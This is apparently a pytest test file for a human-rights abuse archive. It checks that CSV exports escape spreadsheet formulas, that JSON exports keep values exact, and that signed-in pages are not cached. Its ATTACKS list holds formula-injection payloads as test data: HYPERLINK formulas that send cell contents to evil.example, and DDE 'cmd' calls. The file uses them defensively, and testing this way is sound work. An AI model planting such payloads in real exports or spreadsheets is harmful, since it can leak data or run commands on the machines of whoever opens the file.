"""What leaves the archive as a file: CSV cells a spreadsheet cannot run, JSON kept exact, and
nothing signed-in kept in a browser's or a proxy's cache."""

from __future__ import annotations

import csv
import io

import pytest

import archive
from archive.exports import spreadsheet_cell

ATTACKS = [
    ("title", '=HYPERLINK("http://evil.example/?"&A1,"x")'),
    ("place", "+cmd|' /C calc'!A0"),
    ("perpetrator", "-2+3+cmd|' /C calc'!A0"),
    ("narrative", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("title", "\t=1+1"),
    ("title", "\r=1+1"),
    ("named_victims", '=HYPERLINK("http://evil.example/?"&A1,"x")'),
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+92 300 1234567", "'+92 300 1234567"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Umar Dor", "Umar Dor"),
        ("a=b, c-d", "a=b, c-d"),
        ("", ""),
        (-5, -5),
        (0, 0),
        (None, None),
    ],
)
def test_only_text_starting_like_a_formula_is_quoted(value, cell):
    assert spreadsheet_cell(value) == cell


def store_entry(db, column: str, value: str) -> int:
    """An abuse report holding `value` in `column` (a victim's name for named_victims)."""
    source_id = next(db["sources"].rows)["source_id"]
    record = {"title": "Export check", "abuse_type": "arbitrary_detention"}
    victims = [{"name": value}] if column == "named_victims" else []
    if column != "named_victims" and not value[0].isspace():
        record[column] = value
    citations = [{"source_id": source_id, "passage": "Quoted."}]
    report_id = archive.add_entry(db, "abuse", record, citations, "tester", victims)
    if value[0].isspace():
        # The archive trims text; a row stored before it did, or by a tool writing SQL, may not be.
        db["abuse_reports"].update(report_id, {column: value})
    return report_id


@pytest.mark.parametrize(("column", "value"), ATTACKS)
def test_csv_export_neutralises_formulas_and_json_keeps_them_exact(
    client_as, app_db, column, value
):
    report_id = store_entry(app_db, column, value)
    reviewer = client_as("reviewer")  # who sees victims' names
    text = reviewer.get("/export/abuses.csv").get_data(as_text=True)
    rows = {row["report_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert rows[str(report_id)][column] == "'" + value
    entries = reviewer.get("/export/abuses.json").json["entries"]
    assert next(e for e in entries if e["report_id"] == report_id)[column] == value


def test_csv_export_leaves_ordinary_text_and_numbers_alone(client, app_db):
    report_id = store_entry(app_db, "place", "Umar Dor, near Mastung")
    text = client.get("/export/abuses.csv").get_data(as_text=True)
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["report_id"] == str(report_id))
    assert row["place"] == "Umar Dor, near Mastung"
    assert row["figures"] == "" and row["source_count"] == "1"


@pytest.fixture
def file_source(app_db) -> int:
    file = archive.SourceFile("statement.txt", "text/plain", b"A confidential statement.")
    record = {"title": "Statement", "confidential": True}
    return archive.add_source(app_db, record, "tester", file)


@pytest.mark.parametrize(
    ("who", "url"),
    [
        ("reader", "/search?q=Mastung&format=json"),
        ("reader", "/export/abuses.csv"),
        ("reader", "/export/claims.json"),
        ("reviewer", "/sources/{file_source}/file"),
        ("documenter", "/sources/lookup?q=Balochistan"),
        ("reader", "/admin/users"),
        ("anonymous", "/"),
        ("anonymous", "/search?q=Mastung&format=json"),
    ],
)
def test_nothing_signed_in_is_cached(app, client_as, file_source, who, url):
    client = app.test_client() if who == "anonymous" else client_as(who)
    response = client.get(url.format(file_source=file_source))
    assert response.status_code in (200, 302, 401, 403)
    assert response.headers["Cache-Control"] == "no-store"
    response.close()


def test_the_stylesheet_may_still_be_cached(anonymous):
    response = anonymous.get("/static/style.css")
    assert "no-store" not in response.headers.get("Cache-Control", "")
    response.close()
